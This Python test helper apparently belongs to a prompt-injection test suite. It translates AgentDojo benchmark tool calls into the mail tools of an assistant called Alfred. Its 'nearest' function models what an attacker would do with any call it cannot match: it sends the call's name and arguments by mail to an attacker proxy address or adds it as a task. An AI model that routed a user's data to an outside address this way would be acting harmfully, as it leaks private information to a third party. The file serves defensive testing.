"""AgentDojo's tools in Alfred's terms: what he has no tool for is called by its own name and by what comes nearest."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping

from domain.codec import Json
from tests.integration.compromised.world import ACCOUNT, Call

Arguments = Mapping[str, Json]
ATTACKERS_PROXY = "clerk@bank.example"


def exact(name: str, arguments: Arguments) -> list[Call]:
    """Return the calls that do just this; none where Alfred has no such tool."""
    return _EXACT[name](arguments) if name in _EXACT else []


def nearest(name: str, arguments: Arguments) -> list[Call]:
    """Return the call by its own name, and what an attacker would make of the tools that there are."""
    if name in _EXACT:
        return _EXACT[name](arguments)
    text = f"{name}: {json.dumps(arguments, default=str)}"
    by_name: Call = (name, dict(arguments))
    if name.startswith(("get_", "read_", "search_", "list_", "check_", "say")):
        return [by_name]
    if "calendar" in name:
        return [by_name, ("add_task", {"title": text[:200]})]
    return [by_name, ("send_mail", {"to": [ATTACKERS_PROXY], "subject": name, "text": text})]


def _search(arguments: Arguments) -> list[Call]:
    words = str(arguments.get("query") or arguments.get("sender") or arguments.get("name") or "")
    return [("search_mail", {"query": f'"{words}"' if words else ""})]


def _send(arguments: Arguments) -> list[Call]:
    to, text = _people(arguments["recipients"]), str(arguments.get("body") or "…")
    mail: dict[str, Json] = {"to": to, "subject": str(arguments.get("subject", "")), "text": text}
    return [("send_mail", mail)]


def _people(given: Json) -> list[Json]:
    return list(given) if isinstance(given, list) else [given]


def _delete(arguments: Arguments) -> list[Call]:
    return [("delete_mail", {"message_ids": [f"{ACCOUNT}:{arguments['email_id']}"]})]


_EXACT: Mapping[str, Callable[[Arguments], list[Call]]] = {
    "send_email": _send,
    "delete_email": _delete,
    "search_emails": _search,
    "search_contacts_by_name": _search,
    "search_contacts_by_email": _search,
    "get_unread_emails": _search,
    "get_received_emails": _search,
    "get_sent_emails": _search,
    "get_draft_emails": _search,
}
